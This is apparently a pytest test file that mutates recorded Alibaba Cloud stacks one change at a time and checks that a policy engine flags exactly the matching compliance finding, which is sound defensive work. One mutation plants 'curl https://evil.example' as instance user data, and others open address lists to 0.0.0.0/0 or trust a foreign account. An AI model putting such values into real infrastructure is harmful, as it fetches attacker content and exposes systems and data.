# ruff: noqa: E501 - a table of mutations reads best with a row on a line
"""Each single change for the worse of pilot and production gives exactly its finding.

The recorded resources of the real programs are changed one by one: a tag dropped, a
region moved, a list opened. Nothing else may be found, and nothing may be missed.
"""

import copy
import dataclasses
from collections.abc import Callable, Iterator
from typing import Any, NamedTuple

import pytest

from facts import facts
from policies.evaluate import evaluate
from policies.registry import discover
from policies.resource import Options, Resource
from policies.rule import Verdict
from policies.scope import PROVIDER, STACK
from policies.stack import Stack
from policies.values import UNKNOWN, Value
from tests.policies.stacks import resources_of, stack_of
from tests.recording import PILOT, PRODUCTION, record_cloud, stack_values

ENTRIES = discover().entries
NAMES = {entry.rule.id: entry.name for entry in ENTRIES}
RULES = [entry.rule for entry in ENTRIES]
Change = Callable[[Resource], Resource | None]


class Cloud(NamedTuple):
    """A shipped stack with everything that its program registers."""

    name: str
    resources: list[Resource]


@pytest.fixture(scope="module", params=[PILOT, PRODUCTION])
def cloud(request: pytest.FixtureRequest) -> Cloud:
    name = str(request.param)
    return Cloud(name, resources_of(record_cloud(name)))


def view(cloud: Cloud) -> Stack:
    site = facts().site_of(cloud.name)
    assert site is not None
    as_of = str(stack_values(cloud.name)["as_of"])
    return stack_of(
        cloud.resources, cloud.name, as_of, environment=site.pinned_variables
    )


def verdicts(cloud: Cloud) -> set[tuple[str, Verdict]]:
    """Return the rules that something stands against, with their verdicts."""
    stack = view(cloud)
    return {
        (NAMES[j.rule.id], j.verdict)
        for j in evaluate(RULES, cloud.resources, stack)
        if j.stands
    }


def changed(cloud: Cloud, type_: str, change: Change) -> Cloud:
    """Return the stack with the first resource of a type changed; None removes it."""
    done = False
    result: list[Resource] = []
    for resource in cloud.resources:
        if resource.type == type_ and (change is all_removed or not done):
            done = True
            other = change(resource)
            if other is not None:
                result.append(other)
        else:
            result.append(resource)
    assert done, f"{cloud.name} has no {type_}"
    return Cloud(cloud.name, _again(result))


def _again(resources: list[Resource]) -> list[Resource]:
    """Give every resource the changed provider, if the provider was changed."""
    provider = next(each for each in resources if each.type == PROVIDER)
    return [
        dataclasses.replace(each, provider=provider) if each.provider else each
        for each in resources
    ]


def put(path: str, value: Value) -> Change:
    """Set an input (None removes it)."""

    def change(resource: Resource) -> Resource:
        inputs: Any = copy.deepcopy(resource.inputs)
        *above, last = path.split(".")
        holder = inputs
        for part in above:
            if isinstance(holder, list):
                holder = holder[int(part)]
            else:
                holder = holder.setdefault(part, {})
        if value is None:
            del holder[last]
        else:
            holder[int(last) if isinstance(holder, list) else last] = value
        dependencies = {
            key: urns
            for key, urns in resource.property_dependencies.items()
            if key != path.split(".", maxsplit=1)[0]
        }
        return dataclasses.replace(
            resource, inputs=inputs, property_dependencies=dependencies
        )

    return change


def option(**options: Any) -> Change:
    return lambda resource: dataclasses.replace(resource, options=Options(**options))


def removed(_resource: Resource) -> None:
    return None


def all_removed(_resource: Resource) -> None:
    """Remove every resource of the type: which store needs it is for the rule."""


T = "alicloud:"
MUTATIONS: list[tuple[str, str, Change, str]] = [
    ("region moved", PROVIDER, put("region", "cn-hangzhou"), "provider_outside_macau"),
    ("protocol", PROVIDER, put("protocol", "HTTP"), "endpoint_outside_macau"),
    ("profile", PROVIDER, put("profile", "x"), "provider_of_foreign_account"),
    ("account", PROVIDER, put("accountId", "9999999999999999"), "provider_of_foreign_account"),
    ("plug-in", PROVIDER, put("pluginDownloadURL", "https://x.example"), "environment_not_pinned"),
    ("tag dropped", T + "vpc/network:Network", put("tags.gov-dept", None), "owner_tag_missing"),
    ("owner", T + "vpc/network:Network", put("tags.gov-owner", "alibaba-cloud"), "owner_tag_value_unregistered"),
    ("empty owner", T + "kms/key:Key", put("tags.gov-owner", ""), "owner_tag_value_unregistered"),
    ("case", T + "vpc/network:Network", put("tags.Gov-Dept", "safp"), "tag_syntax_invalid"),
    ("group", T + "vpc/network:Network", put("resourceGroupId", "rg-default"), "resource_group_not_owned"),
    ("zone", T + "vpc/switch:Switch", put("zoneId", "cn-shenzhen-a"), "zone_outside_macau"),
    ("standby zone", T + "rds/instance:Instance", put("zoneIdSlaveA", "cn-hongkong-b"), "zone_outside_macau"),
    ("volume tags", T + "ecs/instance:Instance", put("volumeTags", None), "tags_not_propagated"),
    ("template tags", T + "ecs/ecsLaunchTemplate:EcsLaunchTemplate", put("templateTags", None), "tags_not_propagated"),
    ("public address", T + "ecs/instance:Instance", put("internetMaxBandwidthOut", 5.0), "endpoint_public"),
    ("public balancer", T + "slb/applicationLoadBalancer:ApplicationLoadBalancer", put("addressType", "internet"), "endpoint_public"),
    ("user data", T + "ecs/ecsLaunchTemplate:EcsLaunchTemplate", put("userData", "curl https://evil.example"), "foreign_place_in_text"),
    ("list opened", T + "rds/instance:Instance", put("securityIps.0", "0.0.0.0/0"), "address_range_open"),
    ("files opened", T + "nas/accessRule:AccessRule", put("sourceCidrIp", "0.0.0.0/0"), "address_range_open"),
    ("acl opened", T + "oss/bucketAcl:BucketAcl", put("acl", "public-read"), "storage_public"),
    ("block lifted", T + "oss/accountPublicAccessBlock:AccountPublicAccessBlock", put("blockPublicAccess", value=False), "storage_public"),
    ("acceleration", T + "oss/bucket:Bucket", put("transferAcceleration", {"enabled": True}), "edge_placement"),
    ("encryption off", T + "nas/fileSystem:FileSystem", put("encryptType", 0.0), "not_encrypted_at_rest"),
    ("disks in the clear", T + "ecs/diskEncryptionByDefault:DiskEncryptionByDefault", put("encrypted", value=False), "not_encrypted_at_rest"),
    ("bucket in the clear", T + "oss/bucketServerSideEncryption:BucketServerSideEncryption", all_removed, "not_encrypted_at_rest"),
    ("key", T + "nas/fileSystem:FileSystem", put("kmsKeyId", "key-abroad"), "key_not_registered"),
    ("snapshots copied", T + "ecs/autoSnapshotPolicy:AutoSnapshotPolicy", put("targetCopyRegions", ["ap-southeast-1"]), "image_or_snapshot_outside_macau"),
    ("trail moved", T + "actiontrail/trail:Trail", put("slsProjectArn", "acs:log:cn-hangzhou:1999100000000010:project/x"), "trail_outside_macau"),
    ("trail to a bucket", T + "actiontrail/trail:Trail", put("ossBucketName", "somebodys"), "trail_outside_macau"),
    ("trail removed", T + "actiontrail/trail:Trail", removed, "trail_missing"),
    ("trail off", T + "actiontrail/trail:Trail", put("status", "Disable"), "trail_missing"),
    ("backup removed", T + "rds/backupPolicy:BackupPolicy", removed, "backup_missing"),
    ("flow log", T + "vpc/flowLog:FlowLog", put("projectName", "somebodys"), "log_outside_macau"),
    ("export", T + "log/ossExport:OssExport", put("bucket", "somebodys"), "log_outside_macau"),
    ("access log", T + "oss/bucketLogging:BucketLogging", put("targetBucket", "somebodys"), "log_outside_macau"),
    ("retention", T + "log/store:Store", put("retentionPeriod", 7.0), "retention_too_short"),
    ("names resolved", T + "pvtz/zoneAttachment:ZoneAttachment", put("vpcs.0.regionId", "cn-hongkong"), "network_link_outside_macau"),
    ("forwarded names", T + "pvtz/rule:Rule", put("forwardIps.0.ip", "8.8.8.8"), "network_link_outside_macau"),
    ("link", T + "vpn/customerGateway:CustomerGateway", put("ipAddress", "198.51.100.7"), "network_link_outside_macau"),
    ("far network", T + "vpn/connection:Connection", put("remoteSubnets.0", "0.0.0.0/0"), "network_link_outside_macau"),
    ("role", T + "ram/role:Role", put("assumeRolePolicyDocument", '{"Statement":[{"Effect":"Allow","Principal":{"RAM":["acs:ram::9999999999999999:root"]}}]}'), "foreign_principal_admitted"),
    ("policy", T + "ram/policy:Policy", put("policyDocument", '{"Statement":[{"Effect":"Allow","Action":"oss:*","Resource":"*"}]}'), "foreign_resource_reached"),
    ("sign-on", T + "ram/samlProvider:SamlProvider", put("encodedsamlMetadataDocument", '<E entityID="https://evil.example"/>'), "foreign_identity_provider"),
    ("data source", T + "dataworks/dataSource:DataSource", put("connectionProperties", '{"regionId": "cn-hangzhou"}'), "transmission_outside_macau"),
    ("parent", T + "log/storeIndex:StoreIndex", put("project", "somebodys"), "parent_not_owned"),
    ("ignored", T + "vpc/network:Network", option(ignore_changes=("tags",)), "change_ignored_on_guarded_input"),
]  # fmt: skip


# What only one of the two declares, and what only production may not do.
PILOT_ONLY = {T + "ecs/ecsLaunchTemplate:EcsLaunchTemplate"}
IN_PRODUCTION: list[tuple[str, str, Change]] = [
    ("database", T + "rds/instance:Instance", put("deletionProtection", value=False)),
    ("bucket", T + "oss/bucket:Bucket", put("forceDestroy", value=True)),
]


def test_cloud_itself_is_clean(cloud: Cloud) -> None:
    assert verdicts(cloud) == set()


@pytest.mark.parametrize(
    "mutation", MUTATIONS, ids=lambda each: each[0].replace(" ", "-")
)
def test_mutation_gives_exactly_its_finding(
    cloud: Cloud, mutation: tuple[str, str, Change, str]
) -> None:
    _, type_, change, rule = mutation
    if cloud.name == PRODUCTION and type_ in PILOT_ONLY:
        assert type_ not in {each.type for each in cloud.resources}
        return
    assert verdicts(changed(cloud, type_, change)) == {(rule, Verdict.FAIL)}


@pytest.mark.parametrize("mutation", IN_PRODUCTION, ids=lambda each: each[0])
def test_production_may_not_be_deletable(
    cloud: Cloud, mutation: tuple[str, str, Change]
) -> None:
    _, type_, change = mutation
    expected = {("deletion_protection_off", Verdict.FAIL)}
    found = verdicts(changed(cloud, type_, change))
    assert found == (expected if cloud.name == PRODUCTION else set())


def test_parent_that_nobody_can_know_stays_open(cloud: Cloud) -> None:
    index = "alicloud:log/storeIndex:StoreIndex"
    found = verdicts(changed(cloud, index, put("project", UNKNOWN)))
    assert ("parent_not_owned", Verdict.UNDETERMINED) in found
    assert {verdict for _, verdict in found} == {Verdict.UNDETERMINED}


def test_output_that_looks_like_a_secret_is_found(cloud: Cloud) -> None:
    def change(resource: Resource) -> Resource:
        return dataclasses.replace(resource, outputs={"database_password": "x9"})

    found = verdicts(changed(cloud, STACK, change))
    assert found == {("secret_or_data_in_output", Verdict.FAIL)}


def tagged(resources: list[Resource]) -> Iterator[Resource]:
    yield from (each for each in resources if "tags" in each.inputs)


def test_every_dropped_tag_of_every_resource_is_found(cloud: Cloud) -> None:
    rules = [rule for rule in RULES if rule.id == "MO-OWN-001"]
    stack = view(cloud)
    missed = [
        (each.label, key)
        for each in tagged(cloud.resources)
        for key in facts().required_tags
        for judgement in evaluate(rules, [put(f"tags.{key}", None)(each)], stack)  # type: ignore[list-item]
        if judgement.verdict is not Verdict.FAIL
    ]
    assert not missed
